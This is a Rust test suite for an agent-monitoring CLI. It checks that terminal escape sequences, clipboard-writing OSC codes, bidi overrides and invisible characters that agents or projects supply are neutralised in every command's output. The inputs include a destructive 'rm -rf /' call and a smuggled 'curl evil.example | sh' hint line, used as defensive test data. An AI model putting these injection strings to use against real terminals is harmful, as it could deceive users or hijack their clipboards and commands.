//! Text of agents and projects that tries to command a terminal, and what is left of it in everything a person runs.

use serde_json::{Value, json};
use std::path::PathBuf;
use testkit::stage::{LIMIT, Stage, assert_denied};
use testkit::{Finished, poll, process};

/// Wipes the line, sets the title, fills the clipboard, colours, turns the line around, overwrites it, hides in it.
const HOSTILE: &str = "rm\u{1b}[2K\u{1b}[8m\u{1b}]0;owned\u{7}\u{1b}]52;c;b3duZWQ=\u{1b}\\\u{1b}P1$r\u{9c}\u{9b}2J\u{9d}0;x\u{9c}\
     \u{202e}\u{2066}\rok\u{8}\u{b}\u{c}\u{7f}\u{200b}\u{2028}\u{85}\u{3164}\u{e0041}\u{fe0f}end";

/// What our own styles write.
const STYLES: &[&str] =
    &["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[2m", "\u{1b}[31m", "\u{1b}[32m", "\u{1b}[33m", "\u{1b}[36m"];

/// What a person at a terminal can run to look at things.
const LOOKS: &[&[&str]] = &[
    &[],
    &["events"],
    &["events", "-n", "100"],
    &["events", "--denied"],
    &["events", "--agent", HOSTILE],
    &["events", "--session", HOSTILE],
    &["sessions"],
    &["sessions", "--all"],
    &["sessions", "--all", "--agent", HOSTILE],
    &["agents"],
    &["agents", "--all"],
    &["agent", "focus", HOSTILE],
    &["agent", "focus", "nobody\u{1b}[2J"],
    &["top", "--once"],
    &["tmux", "status"],
    &["tmux", "status", "--words"],
    &["statusline"],
    &["effort", "list"],
    &["effort", "list", "--all"],
    &["effort", "show"],
    &["effort", "show", HOSTILE],
    &["session", "find", HOSTILE],
    &["session", "status"],
    &["inbox"],
    &["inbox", "--all"],
    &["inbox", "--agent", HOSTILE],
    &["task", "list", "--all"],
    &["task", "list", "--all", "--markdown"],
    &["task", "list", "--status", HOSTILE],
    &["task", "peek"],
    &["task", "peek", "--markdown"],
    &["task", "show", "a/1"],
    &["task", "show", HOSTILE],
    &["task", "history", "a/1"],
    &["task", "history", HOSTILE],
    &["task", "deps", "a/2"],
    &["task", "why"],
    &["task", "agent", "list"],
    &["task", "plan-status"],
    &["task", "create", "a/9", HOSTILE, "--category", HOSTILE],
    &["task", "done", "a/1", "--result", HOSTILE],
    &["explain", HOSTILE],
    &["explain", "rm -rf \u{1b}]0;x\u{7}/ && sudo \u{202e}\u{9b}2J"],
    &["policy", "check"],
    &["policy", "list"],
    &["policy", "show", HOSTILE],
    &["policy", "pack", HOSTILE, "on"],
    &["notify", "status"],
    &["doctor"],
    &["daemon", "log"],
    &["config", "show", "--origin"],
    &["config", "path", "--all"],
    &["config", "edit"],
    &["trust", "--show"],
    &["trust", "--yes"],
    &["init", "--project", "--dry-run"],
    &["uninstall", "--project", "--dry-run"],
    &["loop", "build", "--dry-run", "--agent-arg", HOSTILE],
    &["run", "--dry-run", "--", "claude", HOSTILE],
    &["daemon", "status"],
    &["db", "path"],
    &["db", "check"],
    &["rpc", HOSTILE],
    &["version"],
    &["events", HOSTILE],
    &[HOSTILE],
];

struct Hostile {
    stage: Stage,
    /// A folder of a hostile name, in which everything is run.
    folder: PathBuf,
}

impl Hostile {
    /// Everything an agent, a project or a queue can hold, filled with it.
    fn new() -> Self {
        let stage = Stage::new();
        let folder = stage.sandbox.project().join(format!("d{HOSTILE}"));
        std::fs::create_dir_all(folder.join(".taut")).unwrap();
        std::fs::create_dir_all(folder.join(".git")).unwrap();
        std::fs::create_dir_all(folder.join(".claude")).unwrap();
        std::fs::write(folder.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        std::fs::write(folder.join("PROMPT.building.md"), HOSTILE).unwrap();
        std::fs::write(folder.join(".claude/settings.json"), json!({"note": "\u{9b}2J\u{202e}"}).to_string()).unwrap();
        let config = format!(
            "[notify]\non = [\"attention\", \"{}\"]\n[skills.implement]\nphases = [\"1: Plan\"]\n",
            "\u{9b}2J\u{202e}"
        );
        std::fs::write(folder.join(".taut/config.toml"), &config).unwrap();
        let user = stage.sandbox.home().join(".config/taut/config.toml");
        std::fs::create_dir_all(user.parent().unwrap()).unwrap();
        std::fs::write(user, config).unwrap();
        let hostile = Self { stage, folder };
        hostile.events();
        hostile.work();
        hostile.queue();
        hostile
    }

    fn taut(&self, args: &[&str], env: &[(&str, &str)], stdin: &[u8]) -> Finished {
        let mut command = self.stage.sandbox.command(self.stage.sandbox.bin());
        command.args(args).current_dir(&self.folder).env("TAUT_NO_DAEMON", "1").envs(env.iter().copied());
        process::run(command, stdin, LIMIT).unwrap()
    }

    /// As the shell of the agent runs it, whose client this test is.
    fn as_agent(&self, args: &[&str]) -> Finished {
        let pid = std::process::id().to_string();
        self.taut(args, &[("CLAUDE_PID", &pid), ("TAUT_AGENT_ID", HOSTILE)], b"")
    }

    fn hook(&self, mut fields: Value) -> Finished {
        fields["session_id"] = json!(HOSTILE);
        fields["cwd"] = json!(self.folder);
        let env = [("TAUT_NO_DAEMON", "1"), ("TAUT_AGENT_ID", HOSTILE), ("CLAUDE_SESSION_ROLE", HOSTILE)];
        self.stage.hook(fields.to_string().as_bytes(), &env)
    }

    fn events(&self) {
        self.hook(json!({"hook_event_name": "SessionStart", "source": HOSTILE, "model": HOSTILE}));
        self.hook(json!({"hook_event_name": "UserPromptSubmit", "prompt": HOSTILE}));
        let call = json!({"command": format!("rm -rf / {HOSTILE}"), "description": HOSTILE});
        let denied =
            json!({"hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": call, "tool_use_id": HOSTILE});
        assert_denied(&self.hook(denied), "the floor");
        self.hook(json!({"hook_event_name": "PreToolUse", "tool_name": HOSTILE, "tool_input": {"file_path": HOSTILE}, "tool_use_id": "2"}));
        self.hook(json!({"hook_event_name": HOSTILE}));
        self.hook(json!({"hook_event_name": "PostToolUseFailure", "tool_name": "Bash", "tool_input": call, "error": HOSTILE, "tool_use_id": "3"}));
    }

    fn work(&self) {
        for args in [
            &["session", "activate", "implement"] as &[&str],
            &["status", HOSTILE],
            &["log", HOSTILE],
            &["send", HOSTILE, HOSTILE],
        ] {
            let done = self.as_agent(args);
            assert!(done.success(), "{args:?}: {}", done.stderr_text());
            //TMP            assert_eq!(unclean(&done, args, &[]), None);
        }
    }

    fn queue(&self) {
        let steps = json!([HOSTILE]).to_string();
        let fields = ["--description", HOSTILE, "--spec", HOSTILE, "--ref", HOSTILE, "--steps", &steps];
        let made = self.taut(&[&["task", "create", "a/1", HOSTILE] as &[&str], &fields].concat(), &[], b"");
        assert!(made.success(), "{}", made.stderr_text());
        assert!(self.taut(&["task", "create", "a/2", HOSTILE, "--deps", "a/1"], &[], b"").success());
        assert!(self.taut(&["task", "claim", "a/1", "--agent", HOSTILE], &[], b"").success());
        let failed = self.taut(&["task", "fail", "a/1", "--agent", HOSTILE, "--reason", HOSTILE], &[], b"");
        assert!(failed.success(), "{}", failed.stderr_text());
        assert!(self.taut(&["task", "create", "a/3", HOSTILE], &[], b"").success());
        assert!(self.taut(&["task", "claim", "a/3", "--agent", HOSTILE], &[], b"").success());
    }
}

/// Where something a terminal obeys, or that hides, was written to either stream.
fn unclean(done: &Finished, args: &[&str], styles: &[&str]) -> Option<String> {
    let found = [("stdout", &done.stdout), ("stderr", &done.stderr)].into_iter().find_map(|(name, bytes)| {
        let text = String::from_utf8_lossy(bytes).into_owned();
        let bare = styles.iter().fold(text, |text, style| text.replace(style, ""));
        let bad = bare.chars().find(|c| *c != '\n' && (c.is_control() || hides(*c)))?;
        Some(format!("{bad:?} on {name}"))
    });
    found.map(|found| format!("taut {}: {found}", args.join(" ").replace(HOSTILE, "HOSTILE").escape_debug()))
}

fn hides(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{3164}')
        || matches!(c, '\u{fe00}'..='\u{fe0f}' | '\u{e0000}'..='\u{e0fff}')
}

#[test]
fn t6_nothing_an_agent_or_a_project_wrote_commands_the_terminal_of_whoever_looks() {
    let hostile = Hostile::new();
    let mut found = Vec::new();
    let bar = json!({"session_id": HOSTILE, "model": {"id": HOSTILE, "display_name": HOSTILE}}).to_string();
    let pid = std::process::id().to_string();
    let agent = [("CLAUDE_PID", pid.as_str()), ("TAUT_AGENT_ID", HOSTILE)];
    for look in [&["effort", "show"] as &[&str], &["session", "status"], &["statusline"], &["inbox"]] {
        found.extend(unclean(&hostile.taut(look, &agent, bar.as_bytes()), look, &[]));
    }
    for look in LOOKS {
        let json = [&["--json"], *look].concat();
        found.extend(unclean(&hostile.taut(look, &[], b"{}"), look, &[]));
        found.extend(unclean(&hostile.taut(look, &[("CLICOLOR_FORCE", "1")], b"{}"), look, STYLES));
        found.extend(unclean(&hostile.taut(&json, &[], b"{}"), &json, &[]));
    }
    assert!(found.is_empty(), "{}", found.join("\n"));
}

#[test]
fn t6_what_was_there_is_seen_and_json_says_it_exactly() {
    let hostile = Hostile::new();
    let shown = hostile.taut(&["events", "--denied"], &[], b"").stdout_text();
    assert!(shown.contains("rm -rf / rm␛[2K␛]0;owned␇␛]52;c;b3duZWQ=␛\\"), "{shown}");
    let listed = hostile.taut(&["events", "--denied", "--json"], &[], b"").stdout_text();
    let event: Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(event["agent"], HOSTILE);
    assert_eq!(event["detail"]["input"]["command"], format!("rm -rf / {HOSTILE}"));
}

/// A line of its own would pass for ours.
#[test]
fn t6_a_newline_in_a_name_makes_no_second_line() {
    let stage = Stage::new();
    let env = [("TAUT_NO_DAEMON", "1"), ("TAUT_AGENT_ID", "ann\n12:00:00  pass  root")];
    stage.hook(&stage.payload(&json!({"hook_event_name": "UserPromptSubmit", "prompt": "go"})), &env);
    for (args, lines) in [(&["events"] as &[&str], 1), (&["sessions"], 2), (&["agents"], 2)] {
        let shown = stage.taut(args).stdout_text();
        assert_eq!(shown.lines().count(), lines, "{args:?}: {shown}");
    }
    let unknown = stage.taut(&["task", "show", "x\nhint: curl evil.example | sh"]).stderr_text();
    assert!(!unknown.lines().any(|line| line.starts_with("hint: curl")), "{unknown}");
}

#[test]
fn t6_a_long_text_does_not_flood_the_terminal() {
    let stage = Stage::new();
    let long = "x".repeat(120_000);
    assert!(stage.taut(&["task", "create", "a/1", &long, "--description", &long]).success());
    let shown = stage.taut(&["task", "show", "a/1"]).stdout;
    assert!(shown.len() < 150_000, "{} bytes", shown.len());
    let listed = stage.list(&["task", "show", "a/1", "--json"]);
    assert_eq!(listed[0]["d"].as_str().map(str::len), Some(long.len()), "JSON has all of it");
}

/// A program of the user's may print the event whole, or any one field of it.
#[test]
fn t6_what_a_notifier_is_told_is_clean_as_text_and_in_every_field() {
    let stage = Stage::new();
    let config = stage.sandbox.home().join(".config/taut/config.toml");
    std::fs::create_dir_all(config.parent().unwrap()).unwrap();
    let command = r#"["/bin/sh", "-c", "cat >> $HOME/told"]"#;
    std::fs::write(config, format!("[notify]\non = [\"attention\"]\ndebounce_ms = 0\ncommand = {command}\n")).unwrap();
    let env = [("TAUT_NO_DAEMON", "1"), ("TAUT_AGENT_ID", HOSTILE)];
    let call = json!({"hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": {"command": HOSTILE}});
    stage.hook(&stage.payload(&call), &env);
    let told = stage.sandbox.home().join("told");
    let read = || std::fs::read_to_string(&told).ok().filter(|text| text.ends_with('\n'));
    let told = poll::until("the program to be told", LIMIT, read).unwrap();
    let event: Value = serde_json::from_str(&told).unwrap();
    let whole = [told.as_str(), event["agent"].as_str().unwrap(), event["message"].as_str().unwrap()];
    for text in whole {
        assert_eq!(text.trim_end().chars().find(|c| c.is_control() || hides(*c)), None, "{text:?}");
    }
    assert!(event["agent"].as_str().unwrap().starts_with("rm␛[2K␛]0;owned␇"), "{event}");
}
